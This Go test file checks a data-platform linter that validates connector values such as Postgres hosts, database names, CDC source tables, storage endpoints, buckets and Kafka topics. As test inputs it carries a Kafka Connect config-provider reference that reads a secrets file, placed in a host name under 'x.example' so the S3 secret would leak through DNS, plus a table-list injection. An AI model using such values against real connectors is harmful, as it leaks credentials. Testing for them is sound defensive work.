package lint_test

import (
	"strings"
	"testing"

	"github.com/datasurface/datasurface/model/lint"
)

// TestConnectorValues: model text the generator renders into connector
// configs, job specs and DAGs is what its reader expects, and never holds a
// Kafka Connect config provider reference.
func TestConnectorValues(t *testing.T) {
	const shopPG = "postgres: {host: shop-db, database: shop}"
	const lake = `object_storage: {endpoint: "http://minio:9000", path_style: true}`
	cdc := func(t *testing.T, m modelFiles) {
		m.replace(t, ordersStore, "kind: sql_snapshot", "kind: debezium_cdc")
	}
	pgCase := func(name, pg, at, code string) familyCase {
		c := familyCase{name: name, edit: func(t *testing.T, m modelFiles) {
			cdc(t, m)
			m.replace(t, shopTeam, shopPG, pg)
		}}
		if code != "" {
			c.want = []want{{shopTeam, at, code, lint.Error}}
		}
		return c
	}
	const attack = "${file:/opt/kafka/secrets/ds__lake_keys.properties:password}"
	cases := []familyCase{
		{name: "clean"},
		// The attack: a team's host (or database) that Kafka Connect would
		// resolve, sending the ecosystem's S3 secret out through DNS.
		pgCase("a host with a config provider reference", `postgres: {host: "`+attack+`.x.example", database: shop}`, "x.example", "value-config-reference"),
		pgCase("a database with a config provider reference", `postgres: {host: shop-db, database: "`+attack+`"}`, "database:", "value-config-reference"),
		pgCase("a host name with an underscore", "postgres: {host: shop_db.internal, database: shop}", "shop_db.internal", "value-host"),
		pgCase("a host name label that ends in '-'", "postgres: {host: shop-.example.com, database: shop}", "shop-.example", "value-host"),
		pgCase("a host name ending in an all-numeric label", "postgres: {host: 10.1.1.256, database: shop}", "10.1.1.256", "value-host"),
		pgCase("an IPv4 address", "postgres: {host: 10.1.1.25, database: shop}", "", ""),
		pgCase("an IPv6 address", `postgres: {host: "fd00::25", database: shop}`, "", ""),
		pgCase("an IPv6 address in brackets", `postgres: {host: "[fd00::25]", database: shop}`, "fd00::25", "value-host"),
		pgCase("a host with a port", "postgres: {host: \"shop-db:5432\", database: shop}", "shop-db:5432", "value-host"),
		pgCase("a port out of range", "postgres: {host: shop-db, port: 65536, database: shop}", "65536", "value-port"),
		pgCase("port 0", "postgres: {host: shop-db, port: 0, database: shop}", "port: 0", "value-port"),
		pgCase("a port", "postgres: {host: shop-db, port: 6432, database: shop}", "", ""),
		pgCase("a database name with '-'", "postgres: {host: shop-db, database: shop-prod}", "shop-prod", "value-identifier"),
		pgCase("a database name with ','", `postgres: {host: shop-db, database: "a,b"}`, "a,b", "value-identifier"),
		pgCase("a database name of 64 characters", "postgres: {host: shop-db, database: "+strings.Repeat("d", 64)+"}", "ddd", "value-identifier"),
		{
			// A schema or table turns into a table.include.list entry:
			// a comma would add a pattern, metacharacters match other tables.
			name: "source schema and tables are identifiers",
			edit: func(t *testing.T, m modelFiles) {
				cdc(t, m)
				m.replace(t, ordersStore, "  trigger:", "  source_schema: \".*\"\n  trigger:")
				m.replace(t, ordersStore, "  - name: orders\n", "  - name: orders\n    source_table: \"orders,public.secrets\"\n")
				m.replace(t, ordersStore, "  - name: customers\n", "  - name: customers\n    source_table: \""+attack+"\"\n")
			},
			want: []want{
				{ordersStore, "kind: debezium_cdc", "value-identifier", lint.Error},
				{ordersStore, "  - name: orders", "value-identifier", lint.Error},
				{ordersStore, "  - name: customers", "value-config-reference", lint.Error},
			},
		},
		{
			name: "source schema and table as identifiers",
			edit: func(t *testing.T, m modelFiles) {
				cdc(t, m)
				m.replace(t, ordersStore, "  trigger:", "  source_schema: Sales_2024\n  trigger:")
				m.replace(t, ordersStore, "  - name: orders\n", "  - name: orders\n    source_table: Order_Header\n")
			},
		},
		{
			name: "endpoints and regions of object storage",
			edit: func(t *testing.T, m modelFiles) {
				m.replace(t, ecoFile, lake, `object_storage: {endpoint: "http://admin:pw@minio:9000", path_style: true}`)
				m.replace(t, ecoFile, "object_storage: {region: eu-west-1}", "object_storage: {endpoint: \"https://s3.${env:X}\", region: \"eu west 1\"}")
			},
			want: []want{
				{ecoFile, "admin:pw@minio", "value-url", lint.Error},
				{ecoFile, "s3.${env:X}", "value-config-reference", lint.Error},
				{ecoFile, "s3.${env:X}", "value-region", lint.Error},
			},
		},
		{
			name: "endpoints with a port, an IPv6 host, a region",
			edit: func(t *testing.T, m modelFiles) {
				m.replace(t, ecoFile, lake, `object_storage: {endpoint: "https://[fd00::9]:9443", region: us-east-1, path_style: true}`)
			},
		},
		{
			name: "buckets, prefixes and the topic prefix of an airflow-iceberg platform",
			edit: func(t *testing.T, m modelFiles) {
				m.replace(t, ecoFile, "landing: {container: lake, bucket: landing, credential: lake_keys}", "landing: {container: lake, bucket: Landing, prefix: \"cdc//x\", credential: lake_keys}")
				m.replace(t, ecoFile, "warehouse: {container: lake, bucket: warehouse, credential: lake_keys}", "warehouse: {container: lake, bucket: \"${a:b}\", prefix: \"../up\", credential: lake_keys}")
				m.replace(t, ecoFile, "kafka_connect: {container: connect}", "kafka_connect: {container: connect, topic_prefix: \"acme cdc\"}")
			},
			want: []want{
				{ecoFile, "- name: lakehouse", "value-bucket", lint.Error},
				{ecoFile, "- name: lakehouse", "value-key-prefix", lint.Error},
				{ecoFile, "- name: lakehouse", "value-config-reference", lint.Error},
				{ecoFile, "- name: lakehouse", "value-key-prefix", lint.Error},
				{ecoFile, "- name: lakehouse", "value-topic", lint.Error},
			},
		},
		{
			name: "a topic longer than Kafka allows",
			edit: func(t *testing.T, m modelFiles) {
				cdc(t, m)
				m.replace(t, ecoFile, "kafka_connect: {container: connect}", "kafka_connect: {container: connect, topic_prefix: "+strings.Repeat("p", 120)+"}")
				m.replace(t, ordersStore, "  trigger:", "  source_schema: "+strings.Repeat("s", 63)+"\n  trigger:")
				m.replace(t, ordersStore, "  - name: orders\n", "  - name: orders\n    source_table: "+strings.Repeat("t", 63)+"\n")
			},
			want: []want{{ordersStore, "  - name: orders", "value-topic", lint.Error}},
		},
	}
	runFamily(t, cases)
}
